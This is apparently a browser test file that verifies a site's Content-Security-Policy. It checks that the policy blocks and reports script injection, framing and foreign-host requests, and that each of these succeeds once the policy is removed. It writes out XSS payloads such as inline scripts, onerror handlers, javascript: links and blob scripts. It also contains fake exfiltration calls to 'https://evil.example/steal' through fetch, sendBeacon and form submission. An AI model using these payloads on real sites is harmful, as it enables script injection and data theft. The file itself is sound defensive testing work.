import { createServer, type Server } from 'node:http';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { paths } from '../../src/paths.ts';
import { launchBrowser, openPage, siteUrl } from './harness.ts';
import { reported } from './policy.ts';

const evil = 'https://evil.example';
/** What the foreign host was asked for. */
let asked: string[];
let browser: Browser;
let page: Page;

beforeAll(async () => {
  browser = await launchBrowser();
});

beforeEach(async () => {
  ({ page } = await openPage(browser));
  asked = [];
  await page.context().route(`${evil}/**`, async (route) => {
    asked.push(route.request().url());
    await route.fulfill({ contentType: 'text/javascript', body: 'window.harmed = true', headers: { 'Access-Control-Allow-Origin': '*' } });
  });
});

afterEach(() => page.context().close());
afterAll(() => browser.close());

type Change = { withPolicy: boolean; markup?: string };

/** Opens a page of the site, as it is served but for what is changed. */
async function open({ withPolicy, markup = '' }: Change): Promise<void> {
  await page.context().route(`**${paths.about}`, async (route) => {
    const response = await route.fetch();
    const headers = Object.entries(response.headers()).filter(
      ([name]) => withPolicy || !['content-security-policy', 'x-frame-options'].includes(name),
    );
    const body = (await response.text()).replace('</body>', `${markup}</body>`);
    await route.fulfill({ status: 200, headers: Object.fromEntries(headers), body });
  });
  await page.goto(paths.about);
}

/** Whether foreign code has run, data has gone to a foreign host, or addresses now mean that host. */
async function isHarmed(): Promise<boolean> {
  const inside = await page.evaluate(() => 'harmed' in window || !document.baseURI.startsWith(location.origin));
  return inside || asked.length > 0;
}

type Attack = {
  what: string;
  directive: string;
  /** What stands in the page's HTML. */
  markup?: string;
  /** What the page is made to do. */
  act?: () => unknown;
};

const attacks: Attack[] = [
  { what: 'an inline script', directive: 'script-src', markup: '<script>window.harmed = true</script>' },
  { what: 'an event handler in markup', directive: 'script-src', markup: '<img src="/nothing.png" alt="" onerror="window.harmed = true">' },
  { what: 'a foreign script', directive: 'script-src', markup: '<script src="https://evil.example/x.js"></script>' },
  { what: 'a script in a data URL', directive: 'script-src', markup: '<script src="data:text/javascript,window.harmed=true"></script>' },
  { what: 'a foreign base address', directive: 'base-uri', markup: '<base href="https://evil.example/">' },
  { what: 'a foreign frame', directive: 'frame-src', markup: '<iframe src="https://evil.example/"></iframe>' },
  { what: 'a foreign plug-in', directive: 'object-src', markup: '<object data="https://evil.example/x" type="text/html"></object>' },
  { what: 'a foreign image', directive: 'img-src', markup: '<img src="https://evil.example/x.png?stolen" alt="">' },
  { what: 'a foreign style sheet', directive: 'style-src', markup: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { what: 'a call to a foreign host', directive: 'connect-src', act: () => fetch('https://evil.example/steal').catch(() => undefined) },
  { what: 'a beacon to a foreign host', directive: 'connect-src', act: () => navigator.sendBeacon('https://evil.example/steal', 'token') },
  {
    what: 'a script added by a script',
    directive: 'script-src',
    act: () => document.body.append(Object.assign(document.createElement('script'), { text: 'window.harmed = true' })),
  },
  {
    what: 'a text that is run as code',
    directive: 'script-src',
    act: () => void Reflect.apply(setTimeout, window, ['window.harmed = true']),
  },
  {
    what: 'a script out of memory',
    directive: 'script-src',
    act: () =>
      document.body.append(
        Object.assign(document.createElement('script'), { src: URL.createObjectURL(new Blob(['window.harmed = true'])) }),
      ),
  },
  {
    what: 'a javascript: link',
    directive: 'script-src',
    act: () => Object.assign(document.createElement('a'), { href: 'javascript:void(window.harmed = true)' }).click(),
  },
  {
    what: 'a page out of memory in a frame',
    directive: 'script-src',
    act: () => {
      const src = URL.createObjectURL(new Blob(['<script>parent.harmed = true</script>'], { type: 'text/html' }));
      document.body.append(Object.assign(document.createElement('iframe'), { src }));
    },
  },
  {
    what: 'a form that is sent to a foreign host',
    directive: 'form-action',
    act: () => {
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/steal', target: 'elsewhere' });
      document.body.append(form);
      form.submit();
    },
  },
];

describe.each(attacks)('$what', ({ directive, markup, act }) => {
  test('is stopped, and reported', async () => {
    await open({ withPolicy: true, markup });
    if (act) await page.evaluate(act);
    await reported(directive);
    expect(await isHarmed()).toBe(false);
  });

  test('would do harm without the policy', async () => {
    await open({ withPolicy: false, markup });
    if (act) await page.evaluate(act);
    await expect.poll(isHarmed).toBe(true);
  });
});

describe('a page of the site in a frame of another', () => {
  let other: Server;
  let otherUrl: string;

  beforeAll(async () => {
    const html = `<!doctype html><title>Other</title><iframe src="${siteUrl}${paths.about}"></iframe>`;
    other = createServer((_, response) => response.setHeader('Content-Type', 'text/html').end(html));
    await new Promise<void>((resolve) => {
      other.listen(0, '127.0.0.1', resolve);
    });
    const address = other.address();
    otherUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
  });

  afterAll(() => other.close());

  const framed = () => page.frames()[1]?.locator('h1').count();

  test('is not shown', async () => {
    await page.goto(otherUrl);
    await reported('frame-ancestors');
    expect(page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
  });

  test('would be shown without the policy', async () => {
    await open({ withPolicy: false });
    await page.goto(otherUrl);
    await expect.poll(framed).toBe(1);
  });
});
